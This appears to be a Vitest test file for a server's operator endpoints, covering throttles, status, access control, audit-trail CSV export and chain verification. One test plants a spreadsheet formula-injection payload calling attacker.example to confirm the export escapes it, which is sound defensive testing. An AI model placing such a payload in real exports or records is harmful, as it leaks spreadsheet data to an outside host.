/** What an operator sees of a running server: its limits, its state, the chain, and the whole trail as a file. */

import { createRequire } from 'node:module'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createOrganization } from '../../src/credentials/create-organization.ts'
import { actor, startTestServer, type TestServer } from '../running-server.ts'
import { signedIn } from '../sign-in/people.ts'
import { asking, type Ask } from './asking.ts'

let server: TestServer
let ask: Ask

beforeAll(async () => {
  server = await startTestServer()
  const { id: organizationId } = await createOrganization(
    server.context,
    { name: 'Operations', operator: true },
    actor,
  )
  ask = asking(server, (await server.bearerToken('guichet', { organizationId })).token)
})

afterAll(() => server.remove())

describe('the throttles', () => {
  it('show their limits, and how many they block now, without a name', async () => {
    const { key } = await server.keyPair('kis')
    for (let count = 0; count < 11; count++) {
      const body = new URLSearchParams({
        grant_type: 'client_credentials',
        client_id: key,
        client_secret: 'no',
      })
      await fetch(`${server.url}/oauth/token`, { method: 'POST', body })
    }
    const { status, body, text } = await ask('GET', '/throttles')
    expect(status).toBe(200)
    expect(body.items).toEqual([
      { kind: 'credentialAndAddress', failures: 10, window: 60, block: null, blocked: 1 },
      { kind: 'address', failures: 300, window: 60, block: null, blocked: 0 },
      { kind: 'credential', failures: 100, window: 900, block: 60, blocked: 0 },
    ])
    expect(text).not.toContain(key)
  })
})

describe('the status', () => {
  it('tells how the server is doing', async () => {
    const { version } = createRequire(import.meta.url)('../../package.json') as { version: string }
    const { body } = await ask('GET', '/status')
    const { credentials } = await server.context.store.sizes()
    expect(body).toMatchObject({
      version,
      store: { kind: 'sqlite', ping: expect.any(Number) },
      organizations: 3,
      members: 0,
      credentials,
      audit: await server.context.store.auditHead(),
      signingKeys: { pending: 0, active: 1, retiring: 0, gone: 0 },
    })
    expect(body.trailAge).toBeLessThan(5)
    expect(body.memory.resident).toBeGreaterThan(1_000_000)
    const [event] = await server.audit()
    expect([body.instance.length, typeof event?.instance]).toEqual([8, 'string'])
  })

  it.each(['/status', '/throttles', '/audit-chain'])('is for nobody else: %s', async (path) => {
    const customer = asking(server, (await server.bearerToken('guichet')).token)
    expect((await customer('GET', path)).status).toBe(403)
    expect((await asking(server, '')('GET', path)).status).toBe(401)
  })
})

describe('the export of the audit trail', () => {
  const rowsOf = (text: string) => text.trimEnd().split('\r\n')

  it('is a file of rows, a customer’s own or all of them', async () => {
    await server.context.store.appendEvents(
      Array.from({ length: 1200 }, () => ({ ...blank, at: Date.now(), organizationId: server.acme.id })),
    )
    const all = await ask('GET', '/audit-events.csv')
    expect(all.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="audit-events.csv"',
      'cache-control': 'no-store',
    })
    const events = await server.audit()
    expect(rowsOf(all.text)).toHaveLength(events.length + 1)
    expect(rowsOf(all.text)[0]).toMatch(/^sequence,at,action,organization,credential,/)
    const customer = asking(server, (await server.bearerToken('guichet')).token)
    const own = rowsOf((await customer('GET', '/audit-events.csv')).text)
    expect(own.length).toBeGreaterThan(1200)
    expect(own.slice(1).every((row) => row.startsWith(',') && row.includes(server.acme.id))).toBe(true)
    const few = await customer('GET', '/audit-events.csv?action=credential.created&from=2020-01-01T00:00:00Z')
    const created = events.filter(
      ({ action, organizationId }) => action === 'credential.created' && organizationId === server.acme.id,
    )
    expect(rowsOf(few.text).length - 1).toBeGreaterThanOrEqual(created.length)
    expect(
      rowsOf(few.text)
        .slice(1)
        .every((row) => row.includes('credential.created')),
    ).toBe(true)
  })

  it('holds no formula that somebody else wrote', async () => {
    const reason = '=HYPERLINK("https://attacker.example?"&A1,"open")'
    await server.context.store.appendEvents([{ ...blank, at: Date.now(), actor: '@somebody', reason }])
    const { text } = await ask('GET', '/audit-events.csv')
    expect(text).toContain(`,'@somebody,`)
    expect(text).toContain(`"'=HYPERLINK(""https://attacker.example?""&A1,""open"")"`)
    expect(text).not.toMatch(/(^|,|")[=+@]/m)
  })

  it.each(['?limit=5', '?organization=null', '?from=yesterday', '?organization='])(
    'refuses %s',
    async (query) => {
      expect((await ask('GET', `/audit-events.csv${query}`)).status).toBe(400)
    },
  )

  it('is fetched by a page of the console', async () => {
    const { browser } = await signedIn(server)
    const answer = await fetch(`${server.url}/api/v1/audit-events.csv`, {
      headers: { cookie: String(browser.cookie) },
    })
    expect([answer.status, (await answer.text()).includes(server.acme.id)]).toEqual([200, true])
  })
})

describe('the chain of the audit trail', () => {
  it('is verified when asked for, with what was found', async () => {
    expect((await ask('GET', '/audit-chain')).body).toMatchObject({ verification: null })
    const { status, body } = await ask('POST', '/audit-chain/verify')
    const { sequence } = await server.context.store.auditHead()
    expect([status, body.state, body.brokenAt]).toEqual([200, 'sound', null])
    expect(body.events).toBeLessThanOrEqual(sequence)
    expect((await ask('GET', '/audit-chain')).body.verification).toEqual(body)
  })
})

const blank = {
  at: 0,
  action: 'exchange.granted',
  organizationId: null,
  credentialId: null,
  memberId: null,
  api: null,
  environment: null,
  dialect: null,
  actor: 'server',
  address: null,
  requestId: null,
  tokenId: null,
  cause: null,
  reason: null,
  attempt: null,
  details: null,
} as const
